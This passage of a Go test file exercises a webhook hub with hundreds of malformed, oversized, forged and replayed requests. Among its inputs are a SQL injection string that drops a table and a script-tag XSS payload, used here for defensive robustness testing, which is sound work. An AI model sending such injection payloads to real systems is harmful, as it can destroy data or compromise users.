package main

// The hostile-input suite: hundreds of malformed, oversized, stalled,
// forged, replayed and tricky requests against the real hub binary, with a
// valid signed event between every few of them. Each hostile request must
// get the clean 4xx (or 429) hub.yaml promises, naming the field and the
// rule, or, when it passes ingress by design, end as a dead letter with its
// reason. Afterwards the org holds exactly the valid events (each with its
// fields), the bus and the syncs' outcome logs hold nothing beyond them, the
// hub is still the process it was at start, and it logged no ERROR.
//
// Requests net/http refuses before any handler runs (headers over
// max_header_bytes, unreadable framing) get net/http's own plain-text
// answer: their status is checked, and that the connection is closed. A
// case that fails for a known hub bug is skipped with "BUG: ..." and listed
// at the end.

import (
	"bufio"
	"bytes"
	"cmp"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"maps"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	sfemu "github.com/loyaltyhub/loyaltyhub/connectors/salesforce/emulator"
)

const (
	hxOperatorToken = "hx-operator-token-0123456789abcdef"
	hxReaderToken   = "hx-reader-token-0123456789abcdef"
	hxMaxBody       = 256 << 10
	hxMaxBatch      = 100
	hxMaxHeader     = 8192
	hxSyncPartner   = "partner-to-contact"
	hxContact       = "Contact"
	hxProblemType   = "application/problem+json"
	// hxValidEvery is how many hostile cases go between two valid events.
	hxValidEvery = 3
)

// hxKey is e2eKey's raw HMAC key, to sign what Standard Webhooks libraries
// cannot (timestamps that are not numbers).
var hxKey = func() []byte {
	b, err := base64.StdEncoding.DecodeString(strings.TrimPrefix(e2eKey, "whsec_"))
	if err != nil {
		panic(err)
	}
	return b
}()

// newHostileHub is a hub with a signed source (ledger, to
// LoyaltyProgramMember) and an insecure one (partner, to Contact), short
// server timeouts, small body, batch and header limits, 4 ingress slots and
// two admin tokens.
func newHostileHub(t *testing.T, o *org) *hub {
	t.Helper()
	h := newBareHub(t)
	lpmMapping, err := filepath.Abs("../../config/mappings/member-to-lpm.yaml")
	require.NoError(t, err)
	contactMapping, err := filepath.Abs("../../config/mappings/member-to-contact.yaml")
	require.NoError(t, err)
	h.writeConfig(fmt.Sprintf(`data_dir: %s
http:
  listen: %q
  max_body_bytes: %d
  max_batch_events: %d
  read_header_timeout: 1s
  read_timeout: 2s
  write_timeout: 10s
  idle_timeout: 5s
  max_header_bytes: %d
  max_concurrent_ingress: 4
  admin_tokens:
    - {name: ops, role: operator, token: %q}
    - {name: viewer, role: read, token: %q}
progress: {interval: 0s}
bus: {ack_wait: 3s}
sources:
  ledger: {secrets: [%q]}
  partner: {insecure: true}
connectors:
  crm:
    type: salesforce
    config: {login_url: %q, client_id: %s, client_secret: %s}
syncs:
  %s:
    from: ledger.member
    to: crm
    object: %s
    external_id: %s
    mapping: %q
    batch: {size: 200, window: 50ms}
    retry: {max_attempts: 3, initial_interval: 50ms, max_interval: 200ms}
  %s:
    from: partner.member
    to: crm
    object: %s
    external_id: Ledger_Member_Id__c
    mapping: %q
    batch: {size: 200, window: 50ms}
    retry: {max_attempts: 3, initial_interval: 50ms, max_interval: 200ms}
`, filepath.Join(h.dir, "data"), h.addr, hxMaxBody, hxMaxBatch, hxMaxHeader, hxOperatorToken, hxReaderToken, e2eKey,
		o.URL(), sfemu.DefaultClientID, sfemu.DefaultClientSecret,
		syncLPM, lpm, extID, lpmMapping, hxSyncPartner, hxContact, contactMapping))
	return h
}

// hxKV is one member of a JSON object, its value raw JSON.
type hxKV struct{ k, v string }

// hxObj is a JSON object written in order, so that cases can repeat keys,
// spell them oddly or give them values of any type.
type hxObj []hxKV

// set replaces the first member named k (or appends one).
func (o hxObj) set(k, v string) hxObj {
	out := slices.Clone(o)
	for i := range out {
		if out[i].k == k {
			out[i].v = v
			return out
		}
	}
	return append(out, hxKV{k, v})
}

// add appends a member, even one already there.
func (o hxObj) add(k, v string) hxObj { return append(slices.Clone(o), hxKV{k, v}) }

// rename renames the first member named k; the key is written as given
// (escapes and all).
func (o hxObj) rename(k, to string) hxObj {
	out := slices.Clone(o)
	for i := range out {
		if out[i].k == k {
			out[i].k = to
			return out
		}
	}
	return out
}

func (o hxObj) del(k string) hxObj {
	return slices.DeleteFunc(slices.Clone(o), func(kv hxKV) bool { return kv.k == k })
}

// setData replaces a member of the object in "data".
func (o hxObj) setData(k, v string) hxObj { return o.set("data", o.data().set(k, v).String()) }

// data parses back the data member (as hxObj, in order); only for objects
// this file built.
func (o hxObj) data() hxObj {
	for _, kv := range o {
		if kv.k == "data" {
			return hxParseObj(kv.v)
		}
	}
	return nil
}

func (o hxObj) String() string {
	var b strings.Builder
	b.WriteByte('{')
	for i, kv := range o {
		if i > 0 {
			b.WriteByte(',')
		}
		b.WriteString(`"` + kv.k + `":` + kv.v)
	}
	b.WriteByte('}')
	return b.String()
}

func (o hxObj) bytes() []byte { return []byte(o.String()) }

// hxParseObj reads an object back into members, keeping the raw values.
func hxParseObj(s string) hxObj {
	dec := json.NewDecoder(strings.NewReader(s))
	if _, err := dec.Token(); err != nil {
		panic(err)
	}
	var out hxObj
	for dec.More() {
		k, err := dec.Token()
		if err != nil {
			panic(err)
		}
		var v json.RawMessage
		if err := dec.Decode(&v); err != nil {
			panic(err)
		}
		out = append(out, hxKV{k.(string), string(v)})
	}
	return out
}

// hxQ is s as a JSON string, HTML characters left as they are.
func hxQ(s string) string {
	var b bytes.Buffer
	enc := json.NewEncoder(&b)
	enc.SetEscapeHTML(false)
	if err := enc.Encode(s); err != nil {
		panic(err)
	}
	return strings.TrimSuffix(b.String(), "\n")
}

// hxMember is a member event's data, and what the targets must hold for it.
type hxMember struct {
	ID, FirstName, LastName, Email, Phone, Status, Tier string
	Version, Points                                     int64
}

var hxStatuses = []string{"active", "suspended", "closed"}
var hxTiers = []string{"bronze", "silver", "gold", "platinum"}

func (m hxMember) data() hxObj {
	return hxObj{
		{"id", hxQ(m.ID)}, {"version", strconv.FormatInt(m.Version, 10)},
		{"first_name", hxQ(m.FirstName)}, {"last_name", hxQ(m.LastName)}, {"email", hxQ(m.Email)},
		{"phone", hxQ(m.Phone)}, {"status", hxQ(m.Status)}, {"tier", hxQ(m.Tier)},
		{"points_balance", strconv.FormatInt(m.Points, 10)}, {"enrolled_at", `"2026-01-02T03:04:05Z"`},
	}
}

// hxEvent is a structured member event of data about subject.
func hxEvent(id, subject string, data hxObj) hxObj {
	return hxObj{
		{"specversion", `"1.0"`}, {"id", hxQ(id)}, {"source", `"urn:loyaltyhub:hostile-test"`},
		{"type", `"loyalty.member.upserted"`}, {"subject", hxQ(subject)}, {"time", `"2026-03-01T10:00:00Z"`},
		{"datacontenttype", `"application/json"`}, {"data", data.String()},
	}
}

// hxSegment is a segment membership event.
func hxSegment(id, subject, segmentID string, added, removed []string) hxObj {
	list := func(ms []string) string {
		parts := make([]string, len(ms))
		for i, m := range ms {
			parts[i] = hxQ(m)
		}
		return "[" + strings.Join(parts, ",") + "]"
	}
	data := hxObj{{"segment_id", hxQ(segmentID)}, {"version", "1"}, {"added", list(added)}, {"removed", list(removed)}}
	return hxObj{
		{"specversion", `"1.0"`}, {"id", hxQ(id)}, {"source", `"urn:loyaltyhub:hostile-test"`},
		{"type", `"loyalty.segment.membership.changed"`}, {"subject", hxQ(subject)}, {"data", data.String()},
	}
}

func hxBatch(evs ...hxObj) []byte {
	parts := make([]string, len(evs))
	for i, e := range evs {
		parts[i] = e.String()
	}
	return []byte("[" + strings.Join(parts, ",") + "]")
}

// hxSignature is a Standard Webhooks signature of one delivery.
func hxSignature(key []byte, id, ts string, body []byte) string {
	m := hmac.New(sha256.New, key)
	m.Write([]byte(id + "." + ts + "."))
	m.Write(body)
	return "v1," + base64.StdEncoding.EncodeToString(m.Sum(nil))
}

// hxReq is one request to the hub.
type hxReq struct {
	method, path string // default POST /v1/events/ledger
	ct           string // Content-Type; none when empty
	body         []byte
	hdr          [][2]string // more headers, added in order
	sign         bool        // sign as a new delivery, now
	auth         string      // Authorization
}

// hxProblem is an RFC 9457 answer.
type hxProblem struct {
	Type, Title, Detail, Instance string
	Status                        int
	Errors                        []struct {
		Event *int
		ID    *string
		Field string
		Rule  string
	}
	Limit  int64
	Offset *int64
}

// hxFault is a fault an answer must name: its field and a rule matching.
type hxFault struct{ field, rule string }

func hxF(field, rule string) hxFault { return hxFault{field, rule} }

// hxRecord is a record a target must hold at the end.
type hxRecord struct {
	object, key string
	fields      map[string]any
	// foldKey: the record's external id may be any spelling of key (a
	// case variant wrote it).
	foldKey bool
	// versions, when set, are every Ledger_Version__c written to it, in order.
	versions []float64
}

type hxDeadLetter struct {
	sync, key, code string
	reason          string // regexp
}

type hxRunner struct {
	h      *hub
	o      *org
	base   string
	client *http.Client

	mu         sync.Mutex
	seq        int
	cases      map[string]int
	order      []string
	sinceValid int
	validSent  map[string]int       // valid events sent, by source
	published  map[string]int       // events accepted onto the bus, by source
	want       map[string]*hxRecord // object + "\x00" + folded key
	dead       []hxDeadLetter       // dead letters expected
	skipped    map[string]int       // outcomes "skipped" expected, by sync
	bugs       []string             // cases skipped for a bug
	netHTTP    map[string]bool      // categories answered by net/http itself
	// maybeSkipped are outcomes that are skipped or applied depending on
	// whether two events share a batch, by sync.
	maybeSkipped map[string]int
}

func newHostileRunner(h *hub, o *org) *hxRunner {
	return &hxRunner{
		h: h, o: o, base: "http://" + h.addr,
		client:    &http.Client{Timeout: 15 * time.Second, Transport: &http.Transport{DisableKeepAlives: true}},
		cases:     map[string]int{},
		validSent: map[string]int{}, published: map[string]int{},
		want: map[string]*hxRecord{}, skipped: map[string]int{}, netHTTP: map[string]bool{}, maybeSkipped: map[string]int{},
	}
}

func (r *hxRunner) next() int {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.seq++
	return r.seq
}

// count counts a hostile case of cat.
func (r *hxRunner) count(cat string) {
	r.mu.Lock()
	defer r.mu.Unlock()
	if r.cases[cat] == 0 {
		r.order = append(r.order, cat)
	}
	r.cases[cat]++
	r.sinceValid++
}

// run runs one hostile case of cat as a sub-test of t, then, every few
// cases, sends a valid event.
func (r *hxRunner) run(t *testing.T, cat, name string, f func(t *testing.T)) {
	t.Helper()
	r.count(cat)
	t.Run(name, f)
	if r.sinceValid >= hxValidEvery {
		r.sinceValid = 0
		r.valid(t)
	}
}

// bug skips a case that fails for a hub bug, and keeps the note for the summary.
func (r *hxRunner) bug(t *testing.T, note string) {
	t.Helper()
	r.mu.Lock()
	r.bugs = append(r.bugs, t.Name()+": "+note)
	r.mu.Unlock()
	t.Skip("BUG: " + note)
}

func (r *hxRunner) do(t *testing.T, q hxReq) (*http.Response, []byte) {
	t.Helper()
	req, err := http.NewRequest(cmp.Or(q.method, http.MethodPost), r.base+cmp.Or(q.path, "/v1/events/ledger"), bytes.NewReader(q.body))
	require.NoError(t, err)
	if q.ct != "" {
		req.Header.Set("Content-Type", q.ct)
	}
	for _, kv := range q.hdr {
		req.Header.Add(kv[0], kv[1])
	}
	if q.sign {
		r.sign(req.Header, q.body)
	}
	if q.auth != "" {
		req.Header.Set("Authorization", q.auth)
	}
	resp, err := r.client.Do(req)
	require.NoError(t, err)
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	require.NoError(t, err)
	return resp, body
}

// sign signs a new delivery of body, now.
func (r *hxRunner) sign(h http.Header, body []byte) string {
	id := fmt.Sprintf("msg_hx_%d_%d", os.Getpid(), r.next())
	ts := strconv.FormatInt(time.Now().Unix(), 10)
	h.Set("webhook-id", id)
	h.Set("webhook-timestamp", ts)
	h.Set("webhook-signature", hxSignature(hxKey, id, ts, body))
	return id
}

// problem checks an answer is the problem hub.yaml promises: its status,
// application/problem+json, and every fault named.
func (r *hxRunner) problem(t *testing.T, resp *http.Response, body []byte, status int, faults ...hxFault) hxProblem {
	t.Helper()
	require.Equal(t, status, resp.StatusCode, "the answer: %s", body)
	assert.Equal(t, hxProblemType, resp.Header.Get("Content-Type"))
	var p hxProblem
	require.NoError(t, json.Unmarshal(body, &p), "a problem body: %s", body)
	assert.Equal(t, status, p.Status, "the problem repeats the status")
	assert.NotEmpty(t, p.Type, "the problem has a type")
	assert.NotEmpty(t, p.Title, "the problem has a title")
	if id := resp.Header.Get("X-Request-Id"); id != "" {
		assert.Equal(t, id, p.Instance, "the problem's instance is the request id")
	}
	for _, f := range faults {
		re := regexp.MustCompile(f.rule)
		found := false
		for _, e := range p.Errors {
			if e.Field == f.field && re.MatchString(e.Rule) {
				found = true
			}
		}
		assert.True(t, found, "the problem names %q with a rule matching %q: %s", f.field, f.rule, body)
	}
	return p
}

// expect sends q and checks the problem answered.
func (r *hxRunner) expect(t *testing.T, q hxReq, status int, faults ...hxFault) hxProblem {
	t.Helper()
	resp, body := r.do(t, q)
	return r.problem(t, resp, body, status, faults...)
}

// accept sends q, checks it is accepted with n events, and counts them as
// published on source.
func (r *hxRunner) accept(t *testing.T, q hxReq, source string, n int) {
	t.Helper()
	resp, body := r.do(t, q)
	require.Equal(t, http.StatusAccepted, resp.StatusCode, "the answer: %s", body)
	var a struct {
		Accepted int
		IDs      []string
		Replayed bool
	}
	require.NoError(t, json.Unmarshal(body, &a), "%s", body)
	require.Equal(t, n, a.Accepted, "%s", body)
	require.False(t, a.Replayed, "%s", body)
	r.mu.Lock()
	r.published[source] += n
	r.mu.Unlock()
}

func hxFold(s string) string { return strings.ToLower(s) }

// expectLPM records what LoyaltyProgramMember must hold for m.
func (r *hxRunner) expectLPM(m hxMember) *hxRecord {
	rec := &hxRecord{object: lpm, key: m.ID, fields: map[string]any{
		extID: m.ID, "MembershipNumber": m.ID, "Ledger_Version__c": float64(m.Version),
		"Points_Balance__c": float64(m.Points), "Tier__c": tierPicklist[m.Tier],
		"MemberStatus": statusPicklist[m.Status], "Email__c": m.Email,
	}}
	r.mu.Lock()
	r.want[lpm+"\x00"+hxFold(m.ID)] = rec
	r.mu.Unlock()
	return rec
}

// expectContact records what Contact must hold for m.
func (r *hxRunner) expectContact(m hxMember) {
	rec := &hxRecord{object: hxContact, key: m.ID, fields: map[string]any{
		extID: m.ID, "FirstName": m.FirstName, "LastName": m.LastName, "Email": m.Email, "Phone": m.Phone,
		"Loyalty_Tier__c": tierPicklist[m.Tier], "Loyalty_Points__c": float64(m.Points),
	}}
	r.mu.Lock()
	r.want[hxContact+"\x00"+hxFold(m.ID)] = rec
	r.mu.Unlock()
}

func (r *hxRunner) expectDead(sync, key, code, reason string) {
	r.mu.Lock()
	r.dead = append(r.dead, hxDeadLetter{sync: sync, key: key, code: code, reason: reason})
	r.mu.Unlock()
}

// member is a fresh member's data.
func (r *hxRunner) member(id string, version int64) hxMember {
	n := r.next()
	return hxMember{ID: id, Version: version, FirstName: "Ada", LastName: fmt.Sprintf("Lovelace %d", n),
		Email: fmt.Sprintf("m%d@example.com", n), Phone: fmt.Sprintf("+44 20 %08d", n),
		Status: hxStatuses[n%len(hxStatuses)], Tier: hxTiers[n%len(hxTiers)], Points: int64(n) * 10}
}

// valid sends one valid event, signed to ledger two times in three, else
// unsigned to partner, each with a member id and version of its own.
func (r *hxRunner) valid(t *testing.T) {
	t.Helper()
	n := r.next()
	source := "ledger"
	if n%3 == 0 {
		source = "partner"
	}
	id := fmt.Sprintf("HX-%s-%04d", strings.ToUpper(source[:1]), n)
	m := r.member(id, int64(n))
	ev := hxEvent("evt-"+id, id, m.data())
	r.accept(t, hxReq{path: "/v1/events/" + source, ct: "application/cloudevents+json", body: ev.bytes(), sign: source == "ledger"}, source, 1)
	r.mu.Lock()
	r.validSent[source]++
	r.mu.Unlock()
	if source == "ledger" {
		r.expectLPM(m)
	} else {
		r.expectContact(m)
	}
}

// validLedger is a valid signed structured event of a fresh member, and the member.
func (r *hxRunner) validLedger() (hxObj, hxMember) {
	n := r.next()
	id := fmt.Sprintf("HX-C-%04d", n)
	m := r.member(id, int64(n))
	return hxEvent("evt-"+id, id, m.data()), m
}

// sample is an event about a member whose data is valid, for a case to spoil.
func (r *hxRunner) sample() hxObj {
	ev, _ := r.validLedger()
	return ev
}

// ---- raw TCP ----

// hxRaw is what one raw exchange saw.
type hxRaw struct {
	resp   *http.Response
	body   []byte
	rest   []byte        // bytes after the first answer
	closed bool          // the hub closed the connection
	took   time.Duration // dial to the answer, or to the close without one
}

func hxTimeout(err error) bool {
	var ne net.Error
	return errors.As(err, &ne) && ne.Timeout()
}

// raw dials the hub, runs write in the background, reads one answer within
// `within`, then for closeWait more whether the hub closes the connection.
func (r *hxRunner) raw(t *testing.T, within, closeWait time.Duration, write func(c net.Conn)) hxRaw {
	t.Helper()
	c, err := net.Dial("tcp", r.h.addr)
	require.NoError(t, err)
	defer c.Close()
	start := time.Now()
	require.NoError(t, c.SetDeadline(start.Add(within)))
	go write(c)
	br := bufio.NewReader(c)
	var a hxRaw
	resp, err := http.ReadResponse(br, nil)
	if err != nil {
		require.False(t, hxTimeout(err), "the hub neither answered nor closed the connection within %v", within)
		a.closed, a.took = true, time.Since(start)
		return a
	}
	a.resp, a.took = resp, time.Since(start)
	a.body, _ = io.ReadAll(resp.Body)
	resp.Body.Close()
	if closeWait > 0 {
		_ = c.SetReadDeadline(time.Now().Add(closeWait))
		rest, err := io.ReadAll(br)
		a.rest = rest
		a.closed = err == nil || !hxTimeout(err)
	}
	return a
}

// rawSend is raw with the whole request written at once.
func (r *hxRunner) rawSend(t *testing.T, req string) hxRaw {
	t.Helper()
	return r.raw(t, 10*time.Second, 2*time.Second, func(c net.Conn) { _, _ = io.WriteString(c, req) })
}

// hxHead is a request line and headers (Host added), ending the head.
func hxHead(method, path string, headers ...string) string {
	var b strings.Builder
	fmt.Fprintf(&b, "%s %s HTTP/1.1\r\nHost: hub\r\n", method, path)
	for _, h := range headers {
		b.WriteString(h + "\r\n")
	}
	b.WriteString("\r\n")
	return b.String()
}

// rawProblem checks a raw answer like problem.
func (r *hxRunner) rawProblem(t *testing.T, a hxRaw, status int, faults ...hxFault) hxProblem {
	t.Helper()
	require.NotNil(t, a.resp, "an answer, not a closed connection")
	return r.problem(t, a.resp, a.body, status, faults...)
}

// netHTTPRefusal checks an answer net/http gives itself for a request it
// cannot read (before any handler): the status, and the connection closed.
func (r *hxRunner) netHTTPRefusal(t *testing.T, cat string, a hxRaw, status int) {
	t.Helper()
	require.NotNil(t, a.resp, "an answer, not a closed connection")
	assert.Equal(t, status, a.resp.StatusCode, "%s", a.body)
	assert.True(t, a.closed, "the connection is closed after a request net/http cannot read")
	r.mu.Lock()
	r.netHTTP[cat] = true
	r.mu.Unlock()
}

// ---- the test ----

func TestHostileInput(t *testing.T) {
	began := time.Now()
	o := startOrg(t)
	h := newHostileHub(t, o)
	h.start()
	pid := h.cmd.Process.Pid
	r := newHostileRunner(h, o)
	r.valid(t)

	t.Run("malformed JSON", r.malformedJSON)
	t.Run("empty and non-object bodies", r.emptyBodies)
	t.Run("non-JSON content", r.nonJSON)
	t.Run("content types", r.contentTypes)
	t.Run("oversized bodies", r.oversized)
	t.Run("lying Content-Length", r.lyingLength)
	t.Run("stalled requests and the concurrency cap", r.stalled)
	t.Run("chunked bodies", r.chunked)
	t.Run("huge and many headers", r.headers)
	t.Run("deep nesting", r.nesting)
	t.Run("wrong types and missing attributes", r.wrongTypes)
	t.Run("invalid UTF-8", r.invalidUTF8)
	t.Run("lone surrogates", r.surrogates)
	t.Run("repeated keys", r.repeatedKeys)
	t.Run("attribute names", r.attributeNames)
	t.Run("forged signatures", r.forgedSignatures)
	t.Run("timestamps", r.timestamps)
	t.Run("replays", r.replays)
	t.Run("binary mode on a signed source", r.binarySigned)
	t.Run("unknown sources", r.unknownSources)
	t.Run("key tricks", r.keyTricks)
	t.Run("control characters in keys", r.controlChars)
	t.Run("case variants of a key", r.caseVariants)
	t.Run("injection-looking values", r.injection)
	t.Run("passes ingress, dead-lettered later", r.deadLettered)

	r.drain(t)
	t.Run("dead letters with their reasons", r.checkDeadLetters)
	t.Run("admin API abuse", r.adminAbuse)

	r.drain(t)
	r.verify(t, pid)

	total, parts := 0, []string{}
	for _, cat := range r.order {
		total += r.cases[cat]
		parts = append(parts, fmt.Sprintf("%s %d", cat, r.cases[cat]))
	}
	valid := r.validSent["ledger"] + r.validSent["partner"]
	t.Logf("hostile cases: %d (%s); valid events between them: %d; events published: %v; skipped as bugs: %d; in %v",
		total, strings.Join(parts, ", "), valid, r.published, len(r.bugs), time.Since(began).Round(time.Millisecond))
	t.Logf("answered by net/http itself (text/plain, not problem+json): %s", strings.Join(slices.Sorted(maps.Keys(r.netHTTP)), ", "))
	for _, b := range r.bugs {
		t.Logf("skipped for a bug: %s", b)
	}
	assert.GreaterOrEqual(t, total, 200)
}

// ---- categories ----

func (r *hxRunner) malformedJSON(t *testing.T) {
	const cat = "malformed JSON"
	bodies := []string{
		`{`, `}`, `[`, `]`, `{"specversion":"1.0",`, `{"a":}`, `{"a" 1}`, `{"a":1,}`, `{,}`, `{'a':1}`, `{a:1}`,
		`{"a":01}`, `{"a":-}`, `{"a":1.}`, `{"a":.5}`, `{"a":NaN}`, `{"a":Infinity}`, `{"a":undefined}`,
		`{"a":"\x41"}`, `{"a":"\u12"}`, "{\"a\":\"raw\ttab\"}", "{\"a\":\"raw\nnewline\"}", `"unterminated`,
		`{"a":"b"`, `[1,2`, `[1,,2]`, `{"a":1}}`, `{} {}`, `{}x`, `/* comment */ {}`, `{"a":1} // comment`,
		`nul`, `tru`, `{"a":tru}`, "\x00{}", "\ufeff{}", `{"a":1e}`, `{"a":0x10}`, `{"a":+1}`, `{"a":"\`,
	}
	for i, b := range bodies {
		path, sign := "/v1/events/ledger", true
		if i%2 == 1 {
			path, sign = "/v1/events/partner", false
		}
		r.run(t, cat, fmt.Sprintf("%02d %q", i, b), func(t *testing.T) {
			p := r.expect(t, hxReq{path: path, ct: "application/cloudevents+json", body: []byte(b), sign: sign}, 400,
				hxF("body", `must be valid JSON .* at byte offset \d+`))
			require.NotNil(t, p.Offset, "the problem gives the byte offset")
			assert.LessOrEqual(t, *p.Offset, int64(len(b)))
		})
	}
	// A valid event cut short at every tenth of its length.
	full := r.sample().bytes()
	for tenth := 1; tenth <= 9; tenth++ {
		cut := full[:len(full)*tenth/10]
		r.run(t, cat, fmt.Sprintf("truncated at %d0%%", tenth), func(t *testing.T) {
			p := r.expect(t, hxReq{ct: "application/cloudevents+json", body: cut, sign: true}, 400,
				hxF("body", `must be valid JSON`))
			require.NotNil(t, p.Offset)
			assert.LessOrEqual(t, *p.Offset, int64(len(cut)))
		})
	}
	// A batch whose second event is cut short.
	b := hxBatch(r.sample(), r.sample())
	r.run(t, cat, "batch truncated in its second event", func(t *testing.T) {
		r.expect(t, hxReq{ct: "application/cloudevents-batch+json", body: b[:len(b)-40], sign: true}, 400, hxF("body", `must be valid JSON`))
	})
}

func (r *hxRunner) emptyBodies(t *testing.T) {
	const cat = "empty and non-object bodies"
	empty := []struct {
		name, path, ct, body string
		sign                 bool
		status               int
		fault                hxFault
	}{
		{"ledger structured empty", "ledger", "application/cloudevents+json", "", true, 400, hxF("body", "the body is empty")},
		{"ledger batch empty", "ledger", "application/cloudevents-batch+json", "", true, 400, hxF("body", "the body is empty")},
		{"partner structured empty", "partner", "application/cloudevents+json", "", false, 400, hxF("body", "the body is empty")},
		{"partner batch empty", "partner", "application/cloudevents-batch+json", "", false, 400, hxF("body", "the body is empty")},
		{"partner binary empty", "partner", "application/json", "", false, 400, hxF("body", "the body is empty")},
		{"ledger whitespace only", "ledger", "application/cloudevents+json", " \r\n\t ", true, 400, hxF("body", "the body is empty")},
		{"partner whitespace only", "partner", "application/cloudevents-batch+json", "\n\n", false, 400, hxF("body", "the body is empty")},
		{"ledger empty and unsigned", "ledger", "application/cloudevents+json", "", false, 401, hxF("webhook-signature", "is required")},
		{"ledger empty without a content type", "ledger", "", "", true, 415, hxF("Content-Type", "must be one of")},
		{"structured {}", "ledger", "application/cloudevents+json", `{}`, true, 422, hxF("type", "is required")},
		{"structured null", "ledger", "application/cloudevents+json", `null`, true, 422, hxF("event", "must not be null")},
		{"structured []", "partner", "application/cloudevents+json", `[]`, false, 422, hxF("event", "must be an object")},
		{"structured string", "ledger", "application/cloudevents+json", `"event"`, true, 422, hxF("event", "must be an object")},
		{"structured number", "partner", "application/cloudevents+json", `0`, false, 422, hxF("event", "must be an object")},
		{"structured true", "ledger", "application/cloudevents+json", `true`, true, 422, hxF("event", "must be an object")},
		{"batch []", "ledger", "application/cloudevents-batch+json", `[]`, true, 422, hxF("body", `at least 1`)},
		{"batch {}", "partner", "application/cloudevents-batch+json", `{}`, false, 422, hxF("body", `must be an array`)},
		{"batch [null]", "ledger", "application/cloudevents-batch+json", `[null]`, true, 422, hxF("event", "must not be null")},
		{"batch [1]", "partner", "application/cloudevents-batch+json", `[1]`, false, 422, hxF("event", "must be an object")},
		{"batch [[]]", "ledger", "application/cloudevents-batch+json", `[[]]`, true, 422, hxF("event", "must be an object")},
		{"batch [{}]", "partner", "application/cloudevents-batch+json", `[{}]`, false, 422, hxF("type", `is required`)},
		{"binary data null", "partner", "application/json", `null`, false, 422, hxF("data", "must not be null")},
	}
	for _, c := range empty {
		r.run(t, cat, c.name, func(t *testing.T) {
			q := hxReq{path: "/v1/events/" + c.path, ct: c.ct, body: []byte(c.body), sign: c.sign}
			if c.ct == "application/json" {
				q.hdr = hxBinaryHeaders("evt-bin-"+strconv.Itoa(r.next()), "HX-BIN-EMPTY")
			}
			r.expect(t, q, c.status, c.fault)
		})
	}
}

func hxBinaryHeaders(id, subject string) [][2]string {
	return [][2]string{{"ce-specversion", "1.0"}, {"ce-id", id}, {"ce-source", "urn:loyaltyhub:hostile-test"},
		{"ce-type", "loyalty.member.upserted"}, {"ce-subject", subject}}
}

func (r *hxRunner) nonJSON(t *testing.T) {
	const cat = "non-JSON content"
	utf8Bodies := map[string]string{
		"XML":           `<?xml version="1.0"?><event><id>1</id></event>`,
		"form":          `specversion=1.0&id=1&subject=M-1`,
		"plain text":    `hello, hub`,
		"YAML":          "specversion: \"1.0\"\nid: evt-1\n",
		"CSV":           "id,subject\n1,M-1\n",
		"HTML":          `<html><body><script>alert(1)</script></body></html>`,
		"JSON lines":    `{"a":1}` + "\n" + `{"b":2}`,
		"JSONP":         `callback({"a":1})`,
		"SQL":           `'; DROP TABLE outcomes; --`,
		"a lone number": `12 34`,
	}
	names := slices.Sorted(maps.Keys(utf8Bodies))
	for i, name := range names {
		body := utf8Bodies[name]
		path, sign := "/v1/events/ledger", true
		if i%2 == 1 {
			path, sign = "/v1/events/partner", false
		}
		r.run(t, cat, name, func(t *testing.T) {
			r.expect(t, hxReq{path: path, ct: "application/cloudevents+json", body: []byte(body), sign: sign}, 400, hxF("body", "must be valid JSON"))
		})
	}
	var gz bytes.Buffer
	gz.Write([]byte{0x1f, 0x8b, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0xff})
	gz.Write(bytes.Repeat([]byte{0xab, 0xcd}, 20))
	binaries := map[string][]byte{
		"PNG":                     []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"),
		"gzip with its encoding":  gz.Bytes(),
		"Windows executable":      []byte("MZ\x90\x00\x03\x00\x00\x00"),
		"Latin-1 text":            []byte("{\"a\":\"caf\xe9\"}"),
		"UTF-16 with BOM":         []byte("\xff\xfe{\x00}\x00"),
		"random bytes (seeded)":   hxRandom(64, 7),
		"protobuf-looking bytes":  []byte{0x0a, 0x03, 0x31, 0x2e, 0x30, 0x12, 0x05, 0xfa, 0xfb, 0xfc},
		"NUL bytes then invalids": []byte("\x00\x00\x00\xc0\xaf"),
	}
	bnames := slices.Sorted(maps.Keys(binaries))
	for _, name := range bnames {
		body := binaries[name]
		r.run(t, cat, name, func(t *testing.T) {
			q := hxReq{ct: "application/cloudevents+json", body: body, sign: true}
			if strings.HasPrefix(name, "gzip") {
				q.hdr = [][2]string{{"Content-Encoding", "gzip"}}
			}
			r.expect(t, q, 400, hxF("body", "must be valid JSON"))
		})
	}
}

// hxRandom is n pseudo-random bytes that are not valid UTF-8.
func hxRandom(n int, seed byte) []byte {
	out := make([]byte, n)
	x := uint32(seed) | 1
	for i := range out {
		x ^= x << 13
		x ^= x >> 17
		x ^= x << 5
		out[i] = byte(x)
	}
	out[0] = 0xff
	return out
}

func (r *hxRunner) contentTypes(t *testing.T) {
	const cat = "content types"
	types := []string{
		"", "text/plain", "application/xml", "application/cloudevents+xml", "application/cloudevents",
		"multipart/form-data; boundary=x", "application/x-www-form-urlencoded", "application/", ";;;",
		"application/json, application/cloudevents+json", "*/*", "application/json-seq", `application/cloudevents+json; charset="unterminated`,
		"text/json", "application/ld+json", "application/cloudevents-batch+json+x", "application/cloudevents+json;;",
		"application/octet-stream", "cloudevents+json",
	}
	for i, ct := range types {
		path, sign := "/v1/events/ledger", true
		if i%2 == 1 {
			path, sign = "/v1/events/partner", false
		}
		r.run(t, cat, fmt.Sprintf("%q to %s", ct, path), func(t *testing.T) {
			resp, body := r.do(t, hxReq{path: path, ct: ct, body: r.sample().bytes(), sign: sign})
			r.problem(t, resp, body, 415, hxF("Content-Type", "must be one of application/cloudevents\\+json, application/cloudevents-batch\\+json, application/json"))
			assert.NotEmpty(t, resp.Header.Get("Accept-Post"), "415 says what is accepted")
		})
	}
}

func (r *hxRunner) oversized(t *testing.T) {
	const cat = "oversized bodies"
	tooBig := func(t *testing.T, path string, n int, chunked bool) {
		body := bytes.Repeat([]byte(" "), n)
		copy(body, `{"a":"`)
		a := r.raw(t, 10*time.Second, 0, func(c net.Conn) {
			if chunked {
